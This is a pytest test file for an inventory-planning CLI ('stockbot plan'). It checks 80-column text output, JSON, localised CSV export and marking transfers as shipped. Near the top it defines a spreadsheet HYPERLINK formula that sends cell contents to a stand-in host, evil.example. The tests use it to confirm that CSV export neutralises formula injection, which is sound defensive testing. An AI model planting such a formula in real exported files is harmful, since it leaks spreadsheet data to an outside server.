"""`stockbot plan` on a real SQLite file: the text within 80 columns, JSON, the CSV that
Romanian Excel opens, and `--mark-shipped` putting a list in transit."""

from __future__ import annotations

import csv
import functools
import io
import json
from pathlib import Path

import pytest
from rich.console import Console
from sqlalchemy import func, select

from bot.cli import plan as plan_cli
from bot.cli.progress import progress
from bot.engine.models import Rules
from bot.intake.seed import store_snapshots
from bot.plan_csv import neutralised
from storage.db import make_engine, make_session_factory, upgrade
from storage.models import TransferRecord
from tests.cli.test_cli import run
from tests.conftest import NOW
from tests.engine.test_plan import catalogue

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "plan.db"
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{path}")
    engine = make_engine(f"sqlite:///{path}")
    upgrade(engine)
    products = catalogue()
    products[0] = products[0].model_copy(update={"name": FORMULA})
    products[1] = products[1].model_copy(update={"name": "Cablu USB-C; 2 m, „negru”"})
    store_snapshots(make_session_factory(engine), products, "csv", NOW, Rules())
    engine.dispose()
    return path


def _transfers(path: Path) -> int:
    engine = make_engine(f"sqlite:///{path}")
    with make_session_factory(engine)() as session:
        count = session.scalar(select(func.count()).select_from(TransferRecord)) or 0
    engine.dispose()
    return count


def test_plan_text_shows_the_three_lists_with_totals_within_80_columns(db, capsys):
    code, out, err = run(capsys, "plan")
    assert code == 0, err
    assert "Inbound to FBE (MAIN -> FBE): 84 units, 3 SKUs" in out
    assert "Withdrawal from FBE (FBE -> MAIN): 20 units, 2 SKUs" in out
    assert "Purchase from the supplier: 56 units, 1 SKU" in out
    assert max(len(line) for line in out.splitlines()) <= 80
    assert err == ""  # no progress bar off a terminal


def test_plan_json_is_the_plan_model(db, capsys):
    code, out, _err = run(capsys, "plan", "--json")
    assert code == 0
    plan = json.loads(out)
    assert [line["units"] for line in plan["inbound"]["lines"]] == [28, 28, 28]
    assert plan["withdrawal"]["skus"] == 2 and plan["min_units"] == 1


def test_romanian_csv_opens_with_its_header_in_a_semicolon_reader_and_no_formula(
    db, capsys, tmp_path, monkeypatch
):
    monkeypatch.setenv("STOCKBOT_LANGUAGE", "ro")
    target = tmp_path / "plan.csv"
    code, _out, err = run(capsys, "plan", "--csv", str(target))
    assert code == 0, err
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    header = rows[0]
    assert header[:5] == ["listă", "SKU", "PNK", "EAN", "denumire"]
    assert all(len(row) == len(header) for row in rows)
    names = {row[1]: row[4] for row in rows[1:]}
    assert names["IN0"] == "'" + FORMULA
    assert names["IN1"] == "Cablu USB-C; 2 m, „negru”"
    cover = {row[1]: row[10] for row in rows[1:]}
    assert cover["IN0"] == "14,0"  # decimal comma


def test_english_csv_is_comma_separated(db, capsys, tmp_path):
    target = tmp_path / "plan.csv"
    assert run(capsys, "plan", "--csv", str(target))[0] == 0
    rows = list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"))))
    assert rows[0][0] == "list" and len(rows) == 1 + 3 + 2 + 2


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+4", "'+4"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Mouse", "Mouse"),
    ],
)
def test_formula_starts_are_neutralised(cell, safe):
    assert neutralised(cell) == safe


def test_mark_shipped_inbound_puts_the_lines_in_transit(db, capsys):
    code, out, err = run(capsys, "plan", "--mark-shipped", "inbound")
    assert code == 0, err
    assert "3 lines marked shipped (84 units)" in out
    assert _transfers(db) == 3
    code, out, _err = run(capsys, "plan", "--json")
    assert json.loads(out)["inbound"]["lines"] == []
    code, out, _err = run(capsys, "analyze", "IN0")
    assert "28 in transit to FBE" in out


def test_mark_shipped_of_a_list_that_cannot_ship_is_one_line_and_changes_nothing(db, capsys):
    code, out, err = run(capsys, "plan", "--mark-shipped", "purchase")
    assert code == 1 and out == ""
    assert len(err.strip().splitlines()) == 1 and "inbound, withdrawal" in err
    assert _transfers(db) == 0


def test_plan_draws_its_progress_on_a_terminal(db, capsys, monkeypatch):
    buffer = io.StringIO()
    terminal = Console(file=buffer, force_terminal=True, width=80)
    monkeypatch.setattr(plan_cli, "progress", functools.partial(progress, console=terminal))
    assert run(capsys, "plan")[0] == 0
    assert "planning" in buffer.getvalue() and "6/6" in buffer.getvalue()
    buffer.truncate(0)
    assert run(capsys, "plan", "--quiet")[0] == 0
    assert buffer.getvalue() == ""
